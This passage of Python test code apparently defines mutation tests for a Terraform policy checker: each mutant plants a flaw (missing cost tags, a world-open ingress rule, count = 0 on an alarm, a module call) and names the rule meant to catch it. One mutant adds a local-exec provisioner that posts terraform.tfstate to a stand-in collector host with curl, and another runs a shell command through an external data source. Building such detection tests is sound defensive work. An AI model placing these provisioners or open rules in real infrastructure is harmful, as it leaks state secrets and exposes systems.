           in_block("platform/logs.tf", '"processing_jobs"', "\n\n  lifecycle {\n    prevent_destroy = true\n  }", ""),
           "platform:aws_cloudwatch_log_group.processing_jobs"),
    Mutant("another account in allowed_account_ids", "TFG-PROV-001",
           replace("teams/algo/providers.tf", '["333333333333"]', '["111111111111"]'), "teams/algo:provider.aws"),
    Mutant("a team root deleted", "TFG-PROV-001", remove_root("teams/algo"), "teams/algo", mentions="teams/algo"),
    Mutant("the ManagedBy tag dropped", "TFG-PROV-002",
           replace("platform/providers.tf", '      ManagedBy   = "tfgen"\n', ""), "platform:provider.aws"),
    # Cost allocation: AWS's reports split by the Project tag, and by Team (from default_tags).
    Mutant("a project repository's Project tag removed", "TFG-TAG-001",
           in_block("teams/rc/ecr.tf", 'resource "aws_ecr_repository" "fraud_detection_training"',
                    '    Project = "fraud-detection"\n', ""),
           "teams/rc:aws_ecr_repository.fraud_detection_training", mentions="no Project tag"),
    Mutant("a model package group tagged with another project", "TFG-TAG-001",
           in_block("teams/rc/model_registry.tf", 'resource "aws_sagemaker_model_package_group" "fraud_detection"',
                    'Project = "fraud-detection"', 'Project = "anti-money-laundering"'),
           "teams/rc:aws_sagemaker_model_package_group.fraud_detection", mentions="Project = 'anti-money-laundering'"),
    Mutant("an endpoint alarm without its tags", "TFG-TAG-001",
           in_block(RC_ENDPOINTS, FRAUD_5XX, '  tags = {\n    Project = "fraud-detection"\n  }\n\n', ""),
           "teams/rc:aws_cloudwatch_metric_alarm.fraud_scoring_5xx_rate", mentions="Project = 'fraud-detection'"),
    Mutant("a created role tagged as the platform's", "TFG-TAG-001",
           in_block(RC_IAM, 'resource "aws_iam_role" "anti_money_laundering"', '    Project = "anti-money-laundering"\n',
                    '    Project = "anti-money-laundering"\n    Team    = "platform"\n'),
           "teams/rc:aws_iam_role.anti_money_laundering", mentions="Team = 'platform'"),
    Mutant("a shared repository charged to a project", "TFG-TAG-001",
           in_block("platform/ecr.tf", 'resource "aws_ecr_repository" "shared_base_sklearn"',
                    '    Name = "acme-sagemaker-shared/base-sklearn"\n',
                    '    Name    = "acme-sagemaker-shared/base-sklearn"\n    Project = "fraud-detection"\n'),
           "platform:aws_ecr_repository.shared_base_sklearn", mentions="Project = 'fraud-detection'"),
    # Terraform reads every .tf and .tf.json file of a root, override files merged over the rest.
    Mutant("a world-open rule in a .tf.json file tfgen did not write", "TFG-SRC-001",
           new_file("platform/world.tf.json", WORLD_OPEN_JSON), "platform", mentions="JSON syntax"),
    Mutant("an override file opening the inference port to the world", "TFG-SRC-001",
           new_file("platform/override.tf", 'resource "aws_vpc_security_group_ingress_rule" '
                                            '"inference_container_from_vpc" {\n  cidr_ipv4 = "0.0.0.0/0"\n}\n'),
           "platform", mentions="an override file"),
    Mutant("count = 0 on an endpoint alarm", "TFG-SRC-002",
           replace(RC_ENDPOINTS, FRAUD_5XX + " {\n", FRAUD_5XX + " {\n  count = 0\n"),
           "teams/rc:aws_cloudwatch_metric_alarm.fraud_scoring_5xx_rate", mentions="count = 0"),
    Mutant("a local-exec provisioner on terraform_data", "TFG-SRC-002",
           append(ALARMS, 'resource "terraform_data" "notify" {\n  provisioner "local-exec" {\n'
                          '    command = "curl -d @terraform.tfstate https://collector.example"\n  }\n}\n'),
           "platform:terraform_data.notify", mentions="local-exec"),
    Mutant("an external data source", "TFG-SRC-002",
           append(RC_ENDPOINTS, 'data "external" "context" {\n  program = ["sh", "-c", "id"]\n}\n'),
           "teams/rc:data.external.context", mentions='data "external"'),
    Mutant("a module call", "TFG-SRC-002",
           append(RC_ENDPOINTS, 'module "extra" {\n  source = "./extra"\n}\n'),
           "teams/rc:module.extra", mentions="a module call"),
]


def mutant_id(mutant: Mutant) -> str:
    return re.sub(r"[^a-z0-9]+", "-", mutant.name.lower()).strip("-")
